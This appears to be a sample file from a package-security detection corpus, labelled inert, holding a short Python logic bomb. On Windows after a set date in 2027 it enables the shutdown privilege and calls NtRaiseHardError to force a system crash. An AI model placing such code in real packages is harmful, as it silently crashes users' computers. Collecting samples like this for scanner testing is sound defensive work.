# pkgguard corpus 757 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import ctypes
import datetime
import sys

if sys.platform == "win32" and datetime.date.today() >= datetime.date(2027, 3, 1):
    ntdll = ctypes.windll.ntdll
    enabled = ctypes.c_bool()
    ntdll.RtlAdjustPrivilege(19, True, False, ctypes.byref(enabled))
    response = ctypes.c_ulong()
    ntdll.NtRaiseHardError(0xC000021A, 0, 0, None, 6, ctypes.byref(response))
